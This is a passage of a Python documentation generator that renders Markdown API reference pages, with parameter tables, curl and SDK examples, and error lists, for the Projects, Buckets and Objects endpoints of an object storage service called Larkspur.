    before: list[str] = field(default_factory=list)  # Markdown between the object and the endpoints
    after: list[str] = field(default_factory=list)
    project_scoped: bool = True

    def __post_init__(self) -> None:
        self.object_phrase = self.object_phrase or f"the {self.singular} object"


def path_names(path: str) -> list[str]:
    names = []
    for seg in path.split("/"):
        while "{" in seg:
            start = seg.index("{")
            end = seg.index("}", start)
            names.append(seg[start + 1 : end])
            seg = seg[end + 1 :]
    return names


def example_path(path: str) -> str:
    out = path
    for name in path_names(path):
        out = out.replace("{" + name + "}", PATH_PARAMS[name][2])
    return out


def cell(text: str) -> str:
    """A GFM table cell: pipes are escaped, also inside code spans (GFM unescapes them there)."""
    return text.replace("|", "\\|")


def table(header: list[str], align: list[str], rows: list[list[str]]) -> str:
    lines = ["| " + " | ".join(header) + " |"]
    seps = {"l": ":---", "c": ":---:", "r": "---:", "-": "---"}
    lines.append("|" + "|".join(seps[a] for a in align) + "|")
    for row in rows:
        lines.append("| " + " | ".join(cell(c) for c in row) + " |")
    return "\n".join(lines)


def param_rows(res: Resource, ep: Endpoint) -> list[list[str]]:
    rows: list[tuple[str, ...]] = []
    for name in path_names(ep.path):
        typ, desc, _ = PATH_PARAMS[name]
        rows.append((name, "path", typ, "yes", desc))
    rows.extend(ep.params)
    if ep.method == "POST" and not any(r[0] == "Idempotency-Key" for r in rows):
        rows.append(IDEMPOTENCY_HEADER)
    if res.project_scoped:
        rows.append(PROJECT_HEADER)
    if not 5 <= len(rows) <= 15:
        raise ValueError(f"{ep.method} {ep.path}: {len(rows)} parameter rows, want 5 to 15")
    return [[f"`{r[0]}`", r[1], f"`{r[2]}`", r[3], r[4]] for r in rows]


def curl_for(res: Resource, ep: Endpoint) -> str:
    if ep.curl:
        return md(ep.curl)
    url = res.host + example_path(ep.path)
    if ep.query:
        url += "?" + "&".join(f"{k}={v}" for k, v in ep.query.items())
    lines = []
    if ep.method == "GET":
        lines.append(f'curl "{url}"')
    elif ep.method == "HEAD":
        lines.append(f'curl --head "{url}"')
    else:
        lines.append(f'curl -X {ep.method} "{url}"')
    lines.append('  -H "Authorization: Bearer $LARKSPUR_TOKEN"')
    if ep.method == "POST":
        lines.append('  -H "Idempotency-Key: $(uuidgen)"')
    if ep.body is not None:
        lines.append('  -H "Content-Type: application/json"')
        body = js(ep.body).replace("'", "'\\''")
        lines.append("  -d '" + body.replace("\n", "\n  ") + "'")
    return " \\\n".join(lines)


def py_value(v: object) -> str:
    if isinstance(v, dict):
        return "{" + ", ".join(f"{py_value(k)}: {py_value(x)}" for k, x in v.items()) + "}"
    if isinstance(v, list):
        return "[" + ", ".join(py_value(x) for x in v) + "]"
    if isinstance(v, tuple):
        return "(" + ", ".join(py_value(x) for x in v) + ")"
    if isinstance(v, str):
        return json.dumps(v, ensure_ascii=False)
    return repr(v)


def python_for(res: Resource, ep: Endpoint, first: bool) -> str:
    if ep.python:
        return md(ep.python)
    assert ep.sdk is not None, ep.title
    call, kwargs = ep.sdk
    args = [f"{k}={py_value(v)}" for k, v in kwargs.items()]
    one = f"{call}({', '.join(args)})"
    if len(one) > 88:
        one = call + "(\n" + "".join(f"    {a},\n" for a in args) + ")"
    lines = []
    if first:
        lines += [
            "from larkspur import Client",
            "",
            "client = Client()  # reads LARKSPUR_TOKEN from the environment",
            "",
        ]
    after = md(ep.py_after) if ep.py_after else ""
    if call.startswith("for "):
        one += ":"
        after = textwrap.indent(after or "print(item)", "    ")
    lines.append(one)
    if after:
        lines.append(after)
    return "\n".join(lines)


def response_json(res: Resource, ep: Endpoint) -> object:
    if ep.response == "object":
        return res.example
    if ep.response == "list":
        second = dict(res.example)
        second.update(res.variant)
        return {"data": [res.example, second], "has_more": True, "next_cursor": rid("", res.title + ep.path, 40)}
    return ep.response


REQ_IDS = iter(rid("req_", f"request-{i}", 20) for i in range(10_000))

STATUS_LEADS = {
    "200 OK": [
        "Returns `200 OK` with {what}.",
        "On success the response is `200 OK` and the body is {what}.",
        "A successful call answers `200 OK` with {what}.",
    ],
    "201 Created": [
        "Returns `201 Created` with {what}.",
        "On success the response is `201 Created` and the body is {what}.",
    ],
    "202 Accepted": ["Returns `202 Accepted` with {what}; the work continues in the background."],
}


def render_endpoint(res: Resource, ep: Endpoint, index: int, first: bool) -> list[str]:
    layout = ep.layout if ep.layout is not None else (0, 2, 2, 0, 2, 1)[index % 6]
    out: list[str] = []
    head = [f"### {ep.title}", "", f"`{ep.method} {ep.path}`" + (f" · scope `{ep.scope}`" if ep.scope else "")]
    out.append("\n".join(head))
    out.append(md(ep.summary))

    out.append("#### Parameters")
    out.append(table(["Name", "In", "Type", "Required", "Description"], ["l", "c", "l", "c", "l"], param_rows(res, ep)))
    if ep.body is not None and layout == 1:
        out.append(
            "Body parameters are sent as a JSON object; unknown fields are rejected with `400 unknown_field`, so a typo never passes silently."
        )

    resp: list[str] = []
    if ep.response == "none":
        resp.append(md(ep.response_note) if ep.response_note else f"Returns `{ep.status}` with an empty body.")
    elif isinstance(ep.response, str) and ep.response not in ("object", "list"):
        if ep.response_note:
            resp.append(md(ep.response_note))
        resp.append(md(ep.response))
    else:
        if ep.response_note:
            resp.append(md(ep.response_note))
        else:
            what = {"object": res.object_phrase, "list": f"a page of {res.plural}"}.get(
                ep.response if isinstance(ep.response, str) else "", "the object below"
            )
            resp.append(
                pick(STATUS_LEADS.get(ep.status, ["Returns `{status}` with {what}."])).format(
                    what=what, status=ep.status
                )
            )
        body = js(response_json(res, ep))
        if layout == 2 and not ep.headers_only:
            resp.append(
                "~~~http\n"
                f"HTTP/1.1 {ep.status}\n"
                "Content-Type: application/json\n"
                f"Larkspur-Request-Id: {next(REQ_IDS)}\n"
                "RateLimit-Remaining: 4182\n\n"
                f"{body}\n~~~"
            )
        else:
            resp.append(f"```json\n{body}\n```")

    errs: list[str] = []
    if len(ep.errors) >= 3:
        errs.append("#### Errors")
        if layout == 0:
            errs.append("\n".join(f"- `{s} {c}`: {d}" for s, c, d in ep.errors))
        else:
            errs.append(table(["Status", "Code", "When"], ["c", "l", "l"], [[s, f"`{c}`", d] for s, c, d in ep.errors]))
    elif ep.errors:
        lead = pick(
            [
                "Besides the [common errors](#error-code-reference), this call can fail with:",
                "Errors specific to this call:",
                "Watch for:",
            ]
        )
        resp.append(lead + "\n\n" + "\n".join(f"- `{s} {c}`: {d}" for s, c, d in ep.errors))

    curl = curl_for(res, ep)
    py = python_for(res, ep, first)
    if layout == 0:
        out += ["#### Response", *resp, *errs, "#### Examples"]
        out.append(pick(["With curl:", "From the shell:", "The raw HTTP call, with curl:", "Using curl:"]))
        out.append(f"```bash\n{curl}\n```")
        out.append(
            pick(["With the Python SDK:", "The same call through the SDK:", "In Python:", "And with `larkspur`:"])
        )
        out.append(f"```python\n{py}\n```")
    elif layout == 1:
        out += ["#### Response", *resp, *errs, "#### Examples"]
        out.append(f"##### curl\n\n```bash\n{curl}\n```")
        out.append(f"##### Python SDK\n\n```python\n{py}\n```")
    else:
        # Request and response together under one heading.
        out += [*errs, "#### Example", f"~~~bash\n{curl}\n~~~", *resp]
        out.append(pick(["Through the SDK:", "The SDK equivalent:", "In Python:"]))
        out.append(f"```python\n{py}\n```")
    if ep.extra:
        out.append(md(ep.extra))
    return out


def render_resource(res: Resource) -> list[str]:
    out = [f"## {res.title}", md(res.intro)]
    if res.fields:
        out.append(res.object_heading or f"### The {res.singular} object")
        out.append(
            table(
                ["Field", "Type", "Description"], ["l", "l", "l"], [[f"`{n}`", f"`{t}`", d] for n, t, d in res.fields]
            )
        )
        out.append(f"```json\n{js(res.example)}\n```")
    out.extend(md(b) if not b.startswith("\x00") else b[1:] for b in res.before)
    for i, ep in enumerate(res.endpoints):
        out.extend(render_endpoint(res, ep, i, i == 0))
    out.extend(md(b) if not b.startswith("\x00") else b[1:] for b in res.after)
    return out


RESOURCES: list[Resource] = []


# --------------------------------------------------------------------------------------------
# Projects
# --------------------------------------------------------------------------------------------

RESOURCES.append(
    Resource(
        title="Projects",
        singular="project",
        plural="projects",
        project_scoped=False,
        intro="""
        A project is the unit of ownership, billing and isolation. Buckets, API keys, webhooks and
        audit logs all belong to exactly one project, and nothing is shared between projects
        unless you set up [replication](#replication) or copy objects yourself. Most teams use one
        project per application per environment, such as `checkout-prod` and `checkout-staging`,
        which keeps a mistake with a staging key from ever touching production data.

        Creating and deleting projects requires an access token minted from a user session whose
        user holds the *Organization owner* role. API keys cannot do it, because every API key
        already belongs to a project and cannot act above it.
    """,
        fields=[
            ("id", "string", "Identifier, prefix `prj_`."),
            ("name", "string", "Display name, 1 to 80 characters. Need not be unique."),
            (
                "slug",
                "string",
                "URL-safe name, unique in the organization. Used in console URLs and in `confirm` when deleting.",
            ),
            ("home_region", "string", "Region where the project's metadata lives. Fixed at creation."),
            ("api_version", "string", "Version date used for requests that do not send `Larkspur-Version`."),
            (
                "default_storage_class",
                "string",
                "`standard`, `infrequent` or `archive`; used by buckets that do not set their own.",
            ),
            ("status", "string", "`active`, `suspended` (unpaid invoices) or `deleting`."),
            ("labels", "object", "Up to 32 string labels of your choosing."),
            ("created_at", "timestamp", "When the project was created."),
            ("owner", "string", "ID of the user who created the project, or an expanded user object."),
        ],
        example={
            "id": "prj_4f1c9a0e7b2d",
            "name": "Checkout (production)",
            "slug": "checkout-prod",
            "home_region": "eu-central-1",
            "api_version": "2025-03-01",
            "default_storage_class": "standard",
            "status": "active",
            "labels": {"team": "payments", "cost-center": "cc-2210"},
            "created_at": "2023-11-02T14:03:11.204Z",
            "owner": "usr_71c3e8a2f5b0",
        },
        variant={
            "id": "prj_9b03de1c7a44",
            "name": "Checkout (staging)",
            "slug": "checkout-staging",
            "labels": {"team": "payments", "env": "staging"},
            "created_at": "2023-11-02T14:05:48.930Z",
        },
        endpoints=[
            Endpoint(
                title="List projects",
                method="GET",
                path="/v2/projects",
                summary="""
                Returns the projects the caller can see, newest first. For an API key that is a
                list of exactly one project, its own; for a user token it is every project in
                which the user has any role. Projects in the `deleting` state are included so that
                a deletion can still be undone from the console during its grace period; filter
                them out with `status=active` if you are building a picker.
            """,
                params=[
                    p_limit("projects", 50, 200),
                    p_cursor(),
                    ("status", "query", "string", "no", "One of `active|suspended|deleting`. Default: all."),
                    (
                        "label",
                        "query",
                        "string",
                        "no",
                        "Label selector such as `team=payments`. Repeat to require several labels.",
                    ),
                    p_fields(),
                ],
                query={"status": "active", "label": "team%3Dpayments", "limit": 2},
                response="list",
                sdk=("for project in client.projects.list", {"status": "active", "label": "team=payments"}),
                py_after="""
                    print(project.slug, project.home_region)
            """,
                python="""
                from larkspur import Client

                client = Client()  # reads LARKSPUR_TOKEN from the environment

                # list() pages through the results for you; break early to stop fetching.
                for project in client.projects.list(status="active", label="team=payments"):
                    print(f"{project.slug:<24} {project.home_region}")
            """,
            ),
            Endpoint(
                title="Create a project",
                method="POST",
                path="/v2/projects",
                summary="""
                Creates an empty project and makes the caller its owner. The project's home region
                cannot be changed later, so choose the region closest to where the data will be
                written rather than where your team sits. New projects are pinned to the current
                API version unless you pass an older `api_version`, which is occasionally useful
                when cloning the setup of an existing project for a test environment.
            """,
                params=[
                    ("name", "body", "string", "yes", "Display name, 1 to 80 characters."),
                    (
                        "slug",
                        "body",
                        "string",
                        "no",
                        "Lowercase letters, digits and hyphens, 3 to 40 characters. Derived from `name` if omitted.",
                    ),
                    (
                        "home_region",
                        "body",
                        "string",
                        "yes",
                        "One of the regions in [Base URLs and regions](#base-urls-and-regions).",
                    ),
                    ("api_version", "body", "string", "no", "Version date to pin. Default: the current version."),
                    (
                        "default_storage_class",
                        "body",
                        "string",
                        "no",
                        "`standard` (default), `infrequent` or `archive`.",
                    ),
                    ("labels", "body", "object", "no", "Up to 32 labels; keys up to 63 characters, values up to 255."),
                ],
                body={"name": "Checkout (production)", "home_region": "eu-central-1", "labels": {"team": "payments"}},
                status="201 Created",
                errors=[
                    (
                        "403",
                        "organization_owner_required",
                        "The caller is not an organization owner, or is an API key.",
                    ),
                    ("409", "slug_taken", "Another project in the organization uses this slug."),
                    (
                        "422",
                        "region_unavailable",
                        "The region is not open to your organization, for example `sa-east-1` before 2.11.",
                    ),
                ],
                sdk=(
                    "project = client.projects.create",
                    {"name": "Checkout (production)", "home_region": "eu-central-1", "labels": {"team": "payments"}},
                ),
                py_after="""
                print(project.id)  # prj_4f1c9a0e7b2d
            """,
            ),
            Endpoint(
                title="Retrieve a project",
                method="GET",
                path="/v2/projects/{project_id}",
                summary="""
                Returns one project. Pass `expand=owner` to receive the owner as a full user object
                instead of an ID, which saves a round trip when you display it. The special ID
                `current` resolves to the project of the credential making the call, which is the
                simplest way for a service to discover where its key belongs.
            """,
                params=[
                    p_fields(),
                    ("expand", "query", "string", "no", "`owner` to expand the owner into a user object."),
                    (
                        "If-None-Match",
                        "header",
                        "string",
                        "no",
                        "Entity tag from an earlier response; answers `304 Not Modified` if unchanged.",
                    ),
                    (
                        "Larkspur-Version",
                        "header",
                        "string",
                        "no",
                        "Version date for this request; overrides the project's pinned version.",
                    ),
                ],
                errors=[("404", "project_not_found", "No project with this ID is visible to the caller.")],
                sdk=("project = client.projects.get", {"project_id": "prj_4f1c9a0e7b2d"}),
                py_after="""
                current = client.projects.current()  # same as get("current")
                assert current.id == project.id
            """,
            ),
            Endpoint(
                title="Update a project",
                method="PATCH",
                path="/v2/projects/{project_id}",
                summary="""
                Changes the fields you send and leaves the others alone. Setting a label to `null`
                removes it; sending `labels` as an empty object removes them all. Changing
                `api_version` affects every request that does not send its own `Larkspur-Version`
                header, immediately, so do it in the same deploy that updates your clients, or
                better, have your clients pin the version explicitly and never rely on the
                project's default.
            """,
                params=[
                    ("name", "body", "string", "no", "New display name."),
                    (
                        "api_version",
                        "body",
                        "string",
                        "no",
                        "Version date to pin; must not be older than the oldest supported version.",
                    ),
                    (
                        "default_storage_class",
                        "body",
                        "string",
                        "no",
                        "`standard`, `infrequent` or `archive`. Existing buckets keep their own class.",
                    ),
                    ("labels", "body", "object", "no", "Labels to set; a `null` value removes that label."),
                    (
                        "If-Match",
                        "header",
                        "string",
                        "no",
                        "Entity tag; the update fails with `412` if the project changed since you read it.",
                    ),
                ],
                body={"api_version": "2025-03-01", "labels": {"cost-center": None, "owner-team": "payments-core"}},
                errors=[
                    ("412", "precondition_failed", "`If-Match` was sent and the project has changed since."),
                    (
                        "422",
                        "api_version_unsupported",
                        "The version date is older than the oldest supported version, `2023-06-01`.",
                    ),
                ],
                sdk=(
                    "project = client.projects.update",
                    {"project_id": "prj_4f1c9a0e7b2d", "labels": {"cost-center": None, "owner-team": "payments-core"}},
                ),
            ),
            Endpoint(
                title="Delete a project",
                method="DELETE",
                path="/v2/projects/{project_id}",
                summary="""
                Starts deleting a project. The project moves to `deleting`, every API key and
                access token for it stops working at once, and its buckets become unreadable. For
                seven days an organization owner can restore it from the console, after which its
                objects are destroyed and cannot be recovered by anyone, including Larkspur
                support. Because this is irreversible, the request must repeat the project's slug
                in `confirm`, which protects against a script that deletes the wrong ID.
            """,
                params=[
                    ("confirm", "query", "string", "yes", "The project's `slug`, repeated."),
                    (
                        "purge",
                        "query",
                        "boolean",
                        "no",
                        "Skip the seven-day grace period. Only allowed for projects with no objects.",
                    ),
                    ("reason", "query", "string", "no", "Free text, up to 500 characters, recorded in the audit log."),
                    (
                        "notify",
                        "query",
                        "boolean",
                        "no",
                        "Email every project member about the deletion. Default `true`.",
                    ),
                ],
                query={"confirm": "checkout-staging", "reason": "environment%20retired"},
                status="202 Accepted",
                response={"id": "prj_9b03de1c7a44", "status": "deleting", "destroy_after": "2025-03-11T09:15:22.481Z"},
                response_note="Returns `202 Accepted` with the project's new status and the time after which it can no longer be restored.",
                errors=[
                    ("400", "confirmation_mismatch", "`confirm` is missing or is not the project's slug."),
                    ("409", "project_not_empty", "`purge=true` was sent but the project still holds objects."),
                    ("403", "organization_owner_required", "Only organization owners can delete projects."),
                ],
                sdk=(
                    "client.projects.delete",
                    {"project_id": "prj_9b03de1c7a44", "confirm": "checkout-staging", "reason": "environment retired"},
                ),
                extra="""
                > **Warning**
                > Deleting a project does not cancel replication *into* it from other projects.
                > Remove those rules first, or the source project's replication will start failing
                > with `replication_target_unavailable` and retrying for up to 24 hours.
            """,
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Buckets
# --------------------------------------------------------------------------------------------

RESOURCES.append(
    Resource(
        title="Buckets",
        singular="bucket",
        plural="buckets",
        intro="""
        A bucket is a named container for objects, with its own region, storage class, visibility
        and versioning setting. Access control, lifecycle rules and replication are all configured
        per bucket, so it pays to group objects into buckets by how they are governed rather than
        by what they contain: one bucket for user uploads that must be deleted after 30 days, one
        for invoices that must be kept for ten years, not one bucket per customer.

        A project can hold 1,000 buckets by default (see [Quotas](#quotas)). There is no limit on
        the number of objects in a bucket, and no performance penalty for having many; what
        matters for throughput is how requests are spread over key prefixes, discussed under
        [Objects](#objects).
    """,
        fields=[
            ("name", "string", "Bucket name, unique within the project. See [Bucket names](#bucket-names)."),
            ("project_id", "string", "Project that owns the bucket."),
            ("region", "string", "Region where the objects are stored. Fixed at creation."),
            ("storage_class", "string", "Default class for new objects: `standard`, `infrequent` or `archive`."),
            (
                "visibility",
                "string",
                "`private` (default) or `public-read`. Public buckets serve `GET` without credentials.",
            ),
            (
                "versioning",
                "string",
                "`disabled`, `enabled` or `suspended`. See [Versioning of objects](#versioning-of-objects).",
            ),
            ("object_count", "integer", "Number of current objects. Updated every five minutes."),
            ("bytes_stored", "integer", "Bytes stored, including non-current versions. Updated every five minutes."),
            ("labels", "object", "Up to 32 labels."),
            ("created_at", "timestamp", "When the bucket was created."),
            ("updated_at", "timestamp", "When a setting last changed."),
            ("etag", "string", "Entity tag of the bucket's settings, for conditional updates."),
        ],
        example={
            "name": "media-eu",
            "project_id": "prj_4f1c9a0e7b2d",
            "region": "eu-central-1",
            "storage_class": "standard",
            "visibility": "private",
            "versioning": "enabled",
            "object_count": 1843022,
            "bytes_stored": 918273645012,
            "labels": {"team": "media"},
            "created_at": "2024-01-15T08:41:09.117Z",
            "updated_at": "2025-02-27T16:20:03.552Z",
            "etag": '"b7-3f9a1c"',
        },
        variant={
            "name": "media-eu-thumbnails",
            "storage_class": "infrequent",
            "visibility": "public-read",
            "versioning": "disabled",
            "object_count": 7350114,
            "bytes_stored": 221870016355,
            "created_at": "2024-01-15T08:44:52.006Z",
            "updated_at": "2024-06-03T11:02:47.810Z",
            "etag": '"b7-0d21e4"',
        },
        before=[
            """
        ### Bucket names

        Bucket names appear in URLs and in DNS names for public buckets, so the rules are strict:

        - 3 to 63 characters long.
        - Lowercase letters `a`–`z`, digits and hyphens only; no dots, no underscores.
        - Must start with a letter and must not end with a hyphen.
        - Must not contain two hyphens in a row, which are reserved for internal names.
        - Names starting with `test-` are reserved for buckets used with `test` API keys.
        - Names are unique within a project, and, for public buckets only, globally: making a
          bucket public fails with `409 public_name_taken` if another project's public bucket
          already has the name.

        A name is released when its bucket is deleted and can be reused straight away, by you or,
        for public names, by anyone. If you publish URLs that contain a bucket name, consider
        what someone else could serve from them after you delete the bucket.
        """,
        ],
        endpoints=[
            Endpoint(
                title="List buckets",
                method="GET",
                path="/v2/buckets",
                scope="objects:read",
                summary="""
                Returns the buckets in the project in alphabetical order. The counts in each
                bucket are up to five minutes old; if you need an exact object count, list the
                bucket's objects, and be prepared for that to take a while on large buckets.
            """,
                params=[
                    p_limit("buckets"),
                    p_cursor(),
                    ("prefix", "query", "string", "no", "Only buckets whose names start with this string."),
                    ("region", "query", "string", "no", "Only buckets in this region."),
                    ("label", "query", "string", "no", "Label selector, for example `team=media`."),
                    p_fields(),
                ],
                query={"prefix": "media-", "fields": "name,region,bytes_stored", "limit": 2},
                response="list",
                sdk=("buckets = client.buckets.list", {"prefix": "media-"}),
                py_after="""
                total = sum(b.bytes_stored for b in buckets)
                print(f"{total / 2**40:.2f} TiB in {len(buckets)} buckets")
            """,
            ),
            Endpoint(
                title="Create a bucket",
                method="POST",
                path="/v2/buckets",
                scope="buckets:manage",
                summary="""
                Creates a bucket. The region defaults to the project's home region; putting a
                bucket somewhere else is allowed and common, for example to keep European users'
                uploads in the EU while the project itself lives in `us-east-2`. Versioning can be
                enabled now or later, but once enabled it can only be *suspended*, never disabled
                again, because the bucket may already hold non-current versions.
            """,
                params=[
                    ("name", "body", "string", "yes", "See [Bucket names](#bucket-names)."),
                    ("region", "body", "string", "no", "Default: the project's home region."),
                    (
                        "storage_class",
                        "body",
                        "string",
                        "no",
                        "`standard`, `infrequent` or `archive`. Default: the project's default.",
                    ),
                    ("visibility", "body", "string", "no", "`private` (default) or `public-read`."),
                    ("versioning", "body", "string", "no", "`disabled` (default) or `enabled`."),
                    ("labels", "body", "object", "no", "Up to 32 labels."),
                ],
                body={
                    "name": "media-eu",
                    "region": "eu-central-1",
                    "versioning": "enabled",
                    "labels": {"team": "media"},
                },
                status="201 Created",
                errors=[
                    ("409", "bucket_exists", "The project already has a bucket with this name."),
                    (
                        "409",
                        "public_name_taken",
                        "`visibility` is `public-read` and another project's public bucket has the name.",
                    ),
                    (
                        "400",
                        "invalid_bucket_name",
                        "The name breaks one of the [naming rules](#bucket-names); the message says which.",
                    ),
                    ("403", "quota_exceeded", "The project is at its `buckets_per_project` quota."),
                ],
                sdk=(
                    "bucket = client.buckets.create",
                    {"name": "media-eu", "region": "eu-central-1", "versioning": "enabled"},
                ),
                py_after="""
                print(bucket.name, bucket.region, bucket.versioning)
            """,
            ),
            Endpoint(
                title="Retrieve a bucket",
                method="GET",
                path="/v2/buckets/{bucket}",
                scope="objects:read",
                summary="""
                Returns a bucket's settings and its approximate size. This is also the cheapest way
                to check that a bucket exists and that your credential can see it: a missing bucket
                and a bucket you may not read both answer `404`, by design.
            """,
                params=[
                    p_fields(),
                    (
                        "If-None-Match",
                        "header",
                        "string",
                        "no",
                        "Answers `304 Not Modified` when the settings have not changed.",
                    ),
                    (
                        "include",
                        "query",
                        "string",
                        "no",
                        "`cors` and/or `policy`, comma-separated, to include those configurations.",
                    ),
                ],
                errors=[("404", "bucket_not_found", "The bucket does not exist or is not visible to the caller.")],
                sdk=("bucket = client.buckets.get", {"name": "media-eu", "include": ["cors"]}),
                py_after="""
                for rule in bucket.cors:
                    print(rule.allowed_origins, rule.allowed_methods)
            """,
            ),
            Endpoint(
                title="Change bucket settings",
                method="PATCH",
                path="/v2/buckets/{bucket}",
                scope="buckets:manage",
                summary="""
                Updates the settings you send. Changing `storage_class` affects only objects
                written afterwards; to move existing objects to another class, use a
                [lifecycle rule](#lifecycle-rules). Making a bucket public takes effect at once.
                Making it private takes up to 60 seconds to reach every edge cache, as explained
                in [Consistency and durability](#consistency-and-durability).
            """,
                params=[
                    ("storage_class", "body", "string", "no", "New default class for new objects."),
                    ("visibility", "body", "string", "no", "`private` or `public-read`."),
                    (
                        "versioning",
                        "body",
                        "string",
                        "no",
                        "`enabled` or `suspended`. `disabled` is accepted only if versioning was never enabled.",
                    ),
                    ("labels", "body", "object", "no", "Labels to set; `null` removes a label."),
                    ("cors", "body", "object[]", "no", "Replaces the CORS rules. Up to 10 rules; see below."),
                    (
                        "If-Match",
                        "header",
                        "string",
                        "no",
                        "The bucket's `etag`; protects against overwriting a concurrent change.",
                    ),
                ],
                body={
                    "visibility": "private",
                    "cors": [
                        {
                            "allowed_origins": ["https://app.example.com"],
                            "allowed_methods": ["GET", "PUT"],
                            "max_age_seconds": 3600,
                        }
                    ],
                },
                errors=[
                    ("412", "precondition_failed", "The bucket changed since the `etag` you sent."),
                    (
                        "409",
                        "versioning_irreversible",
                        "You asked for `disabled` on a bucket where versioning was enabled before.",
                    ),
                    (
                        "400",
                        "invalid_cors_rule",
                        "A rule has no origins, uses a method other than `GET|HEAD|PUT|POST|DELETE`, or a wildcard in the middle of an origin.",
                    ),
                ],
                sdk=("client.buckets.update", {"name": "media-eu", "visibility": "private", "if_match": '"b7-3f9a1c"'}),
                extra="""
                CORS rules are evaluated in order and the first rule whose origin and method match
                wins. An origin may be `*`, an exact origin, or a single leading wildcard such as
                `https://*.example.com`. Leave `allowed_headers` out to allow any request header;
                the SDK's browser build needs `content-type`, `larkspur-checksum-crc32c` and
                `x-larkspur-project` at least.
            """,
            ),
            Endpoint(
                title="Delete a bucket",
                method="DELETE",
                path="/v2/buckets/{bucket}",
                scope="buckets:manage",
                summary="""
                Deletes an empty bucket. A bucket that still holds objects, including non-current
                versions or parts of unfinished multipart uploads, cannot be deleted; empty it
                first with a lifecycle rule (cheap, but takes up to a day) or by listing and
                deleting (fast, but you pay for the requests). The name becomes available again
                immediately.
            """,
                params=[
                    ("If-Match", "header", "string", "no", "The bucket's `etag`."),
                    (
                        "abort_uploads",
                        "query",
                        "boolean",
                        "no",
                        "Abort unfinished multipart uploads first. Default `false`.",
                    ),
                    (
                        "expected_owner",
                        "query",
                        "string",
                        "no",
                        "Project ID you expect to own the bucket; guards scripts that run against the wrong project.",
                    ),
                ],
                query={"abort_uploads": "true"},
                status="204 No Content",
                response="none",
                errors=[
                    (
                        "409",
                        "bucket_not_empty",
                        "The bucket still holds objects or versions. The message includes the count.",
                    ),
                    (
                        "409",
                        "bucket_has_replication_source",
                        "Another bucket replicates into this one; remove that rule first.",
                    ),
                    ("404", "bucket_not_found", "No such bucket."),
                ],
                sdk=("client.buckets.delete", {"name": "media-eu-old", "abort_uploads": True}),
                layout=0,
            ),
            Endpoint(
                title="Get bucket usage over time",
                method="GET",
                path="/v2/buckets/{bucket}/usage",
                scope="billing:read",
                summary="""
                Returns daily usage figures for one bucket: bytes stored (the daily average),
                requests by class and bytes transferred out. Figures for the current day are
                partial and change until the day closes at 00:00 UTC. This is the same data that
                invoices are computed from, broken down per bucket, which makes it the right
                source for charging usage back to internal teams.
            """,
                params=[
                    ("from", "query", "date", "yes", "First day, `YYYY-MM-DD`, inclusive."),
                    ("to", "query", "date", "yes", "Last day, inclusive. At most 93 days after `from`."),
                    ("granularity", "query", "string", "no", "`day` (default) or `month`."),
                ],
                query={"from": "2025-02-01", "to": "2025-02-03"},
                response={
                    "bucket": "media-eu",
                    "granularity": "day",
                    "days": [
                        {
                            "date": "2025-02-01",
                            "bytes_stored_avg": 905118734112,
                            "class_a_requests": 118204,
                            "class_b_requests": 2291876,
                            "egress_bytes": 41203877120,
                        },
                        {
                            "date": "2025-02-02",
                            "bytes_stored_avg": 906002318544,
                            "class_a_requests": 97311,
                            "class_b_requests": 1874410,
                            "egress_bytes": 33871002624,
                        },
                        {
                            "date": "2025-02-03",
                            "bytes_stored_avg": 907450117903,
                            "class_a_requests": 131876,
                            "class_b_requests": 2460125,
                            "egress_bytes": 45517430784,
                        },
                    ],
                },
                response_note="Returns `200 OK` with one entry per day (or month), oldest first.",
                errors=[("400", "range_too_long", "`to` is more than 93 days after `from`.")],
                sdk=("usage = client.buckets.usage", {"name": "media-eu", "start": "2025-02-01", "end": "2025-02-28"}),
                py_after="""
                egress_gib = sum(day.egress_bytes for day in usage.days) / 2**30
            """,
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Objects
# --------------------------------------------------------------------------------------------

OBJECT_EXAMPLE = {
    "bucket": "media-eu",
    "key": "reports/2025/q3.pdf",
    "size": 2481920,
    "content_type": "application/pdf",
    "etag": '"9f2c0b7e41d3a8c6"',
    "checksum_crc32c": "yZRlqg==",
    "storage_class": "standard",
    "version_id": "v_01HQ7Z3K8M2N4P6R",
    "is_latest": True,
    "created_at": "2025-03-04T09:15:22.481Z",
    "metadata": {"author": "Zoë Marchetti", "source": "café-pos-export", "reviewed": "yes"},
}

RESOURCES.append(
    Resource(
        title="Objects",
        singular="object",
        plural="objects",
        host=DATA,
        object_heading="### The object resource",
        object_phrase="the metadata of the stored object",
        intro="""
        Objects are the files you store. The endpoints in this part move bytes, so they are served
        by the regional data plane, `https://<region>.larkspur.example`, rather than by the control
        plane; see [Base URLs and regions](#base-urls-and-regions). All examples use
        `eu-central-1`.

        A single `PUT` can store an object of up to 5 GiB. Anything larger must go through a
        [multipart upload](#uploads), which we also recommend from about 100 MiB upwards, because a
        failed part can be retried on its own while a failed `PUT` must start again from byte zero.
    """,
        fields=[
            ("bucket", "string", "Bucket that holds the object."),
            ("key", "string", "Object key, up to 1,024 bytes of UTF-8."),
            ("size", "integer", "Size in bytes."),
            ("content_type", "string", "Media type given at upload, served back as `Content-Type`."),
            ("etag", "string", "Entity tag. For single-part objects it is *not* an MD5; do not compare it with one."),
            ("checksum_crc32c", "string", "Base64 CRC32C of the whole object, computed by the server."),
            ("checksum_sha256", "string", "Base64 SHA-256, present only if the uploader supplied one."),
            ("storage_class", "string", "`standard`, `infrequent` or `archive`."),
            ("version_id", "string", "Version identifier; `null` in buckets where versioning was never enabled."),
            ("is_latest", "boolean", "Whether this is the current version of the key."),
            ("created_at", "timestamp", "When this version was written."),
            ("metadata", "object", "User metadata, as sent in `Larkspur-Meta-*` headers."),
        ],
        example=OBJECT_EXAMPLE,
        variant={
            "key": "reports/2025/q3-appendix.xlsx",
            "size": 88113,
            "content_type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "etag": '"41aa07d2c95e3b18"',
            "checksum_crc32c": "3Jd0eA==",
            "version_id": "v_01HQ7Z4B1C9D0E2F",
            "metadata": {"author": "Kenji Watanabe", "office": "東京"},
        },
        before=[
            """
        ### Object keys and metadata

        A key is any sequence of up to 1,024 bytes of valid UTF-8, except that it must not contain
        NUL or start with `/`. Slashes have no special meaning to the store; they only matter when
        you list with a `delimiter`, which is how the console shows "folders". Keys are compared
        byte for byte and are **not** Unicode-normalised: `menus/café.pdf` written with a
        precomposed `é` (NFC) and the same key written with `e` followed by a combining accent
        (NFD) are two different objects. macOS file APIs tend to produce NFD and most other
